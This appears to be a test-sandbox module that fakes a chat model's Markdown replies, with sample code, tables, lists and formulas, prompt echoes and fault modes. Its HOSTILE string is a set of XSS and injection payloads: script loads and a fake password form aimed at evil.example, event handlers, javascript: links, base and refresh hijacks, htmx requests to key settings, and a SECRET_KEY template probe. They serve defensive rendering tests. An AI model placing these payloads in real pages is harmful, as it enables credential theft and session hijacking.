"""What the stand-in says: Markdown that shows what pages can render, and repeats what it was asked."""

import json
import re

from tests.sandbox.faults import Faults, amount, unknown_words
from tests.sandbox.questions import Question

QUOTED_LINE_CHARACTERS = 280
LARGEST_LONG_KILOBYTES = 32_000

CODE = '''Here is some code:

```python
from collections.abc import Iterator


def fibonacci(limit: int) -> Iterator[int]:
    """Every Fibonacci number below the limit."""
    current, following = 0, 1
    while current < limit:
        yield current  # 0, 1, 1, 2, 3, 5, …
        current, following = following, current + following


print(f"{sum(fibonacci(100)):,}")
```

Run it with `python fibonacci.py`.
'''
TABLE = """Here is a table:

| Planet | Moons | Day (hours) | Note |
| :----- | ----: | :---------: | :--- |
| Mercury | 0 | 4222.6 | *closest* to the sun |
| Earth | 1 | 24.0 | **home** |
| Mars | 2 | 24.7 | `Phobos`, `Deimos` |
| Jupiter | 95 | 9.9 | the [largest](https://example.org/jupiter) |
"""
LIST = """Here is a list:

1. Plan the work
   - gather what is known
   - ask what is *not*
     - in writing
     - today
2. Do the work
3. Look at it again, ~~tomorrow~~ now
"""
MATH = r"""Here is a formula, $e^{i\pi} + 1 = 0$, and a larger one:

$$
\int_{-\infty}^{\infty} e^{-x^2}\,dx = \sqrt{\pi}
$$
"""
SHOWPIECES = {"code": CODE, "table": TABLE, "list": LIST, "math": MATH}
_SHOWPIECE = re.compile(r"\b(code|table|list|math)s?\b", re.IGNORECASE)

HOSTILE = """# Hostile answer

<script>document.title = "owned"</script><script src="https://evil.example/x.js"></script>
<img src=x onerror="document.title='owned'"> <img src="https://evil.example/pixel.png">
<svg onload="document.title='owned'"><script>document.title='owned'</script></svg>
<div hx-get="/settings/keys/" hx-trigger="load" hx-swap="outerHTML">htmx</div>
<div data-hx-post="/c/" data-hx-trigger="load" hx-on:load="document.title='owned'">htmx</div>
<form action="https://evil.example/" method="post"><input name="password" autofocus><button>Sign in</button></form>
<iframe src="javascript:document.title='owned'"></iframe><object data="https://evil.example/"></object>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<p style="position:fixed;inset:0;background:red" onmouseover="document.title='owned'" id="composer">over all</p>
</article></main></body></html><!-- open comment

![remote](https://evil.example/remote.png) ![local](/static/logo.png) ![data](data:image/svg+xml;base64,PHN2Zz4=)
[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>) [vb](vbscript:x)
[good](https://example.org/ "a title with \\"quotes\\"") <https://example.org/auto> <javascript:alert(1)>
[reference][1] and `</code></pre><script>document.title='owned'</script>`

[1]: javascript:document.title='owned'

```html"><script>document.title='owned'</script>
</code></pre><script>document.title='owned'</script>
```

{{ settings.SECRET_KEY }} {% load static %} $\\href{javascript:alert(1)}{x}$ \u202egnirts desrever\u202c
"""


def compose(question: Question, faults: Faults) -> str:
    """The text of the answer, in Markdown; the same for the same question."""
    if "empty" in faults or "filtered" in faults:
        return ""
    if question.wants_json:
        return json.dumps({"model": question.model.slug, "question": question.prompt, "turns": question.turns})
    if "hostile" in faults:
        return HOSTILE
    text = _greeting(question)
    if "surrogates" in faults:
        text += "\nA NUL \x00 and a lone surrogate \ud800, in the middle of a line."
    if "long" in faults:
        text += _filling(int(amount(faults, "long", 100, LARGEST_LONG_KILOBYTES)))
    if "length" in faults:
        return text[: len(text) * 2 // 3]
    return text


def _greeting(question: Question) -> str:
    paragraphs = [f"You asked:\n\n{_quoted(question.prompt)}", _circumstances(question)]
    wanted = dict.fromkeys(word.lower() for word in _SHOWPIECE.findall(question.prompt))
    paragraphs += [SHOWPIECES[word] for word in wanted]
    if strangers := unknown_words(question.faults):
        paragraphs.append(f"I know no fault called {', '.join(f'`{name}`' for name in strangers)}.")
    return "\n\n".join(paragraphs)


def _quoted(prompt: str) -> str:
    lines = prompt.splitlines() or ["(nothing)"]
    return "\n".join(f"> {line[:QUOTED_LINE_CHARACTERS]}" for line in lines[:12])


def _circumstances(question: Question) -> str:
    facts = [f"I am **{question.model.slug}**, by way of {question.version}, and have seen {_turns(question.turns)}."]
    if question.instruction:
        facts.append(f"My instruction is “{question.instruction[:QUOTED_LINE_CHARACTERS]}”.")
    if question.temperature is not None:
        facts.append(f"My temperature is {question.temperature:g}.")
    if question.images:
        facts.append(f"With it came {len(question.images)} image(s): {'; '.join(question.images)}.")
    return " ".join(facts)


def _turns(count: int) -> str:
    return "1 turn" if count == 1 else f"{count} turns"


def _filling(kilobytes: int) -> str:
    sentence = "The quick brown fox jumps over the lazy dog, and then does it again. "
    paragraph = sentence * 7
    section = "\n\n## Part {}\n\n" + paragraph
    return "".join(section.format(number) for number in range(1, kilobytes * 1024 // len(section) + 2))
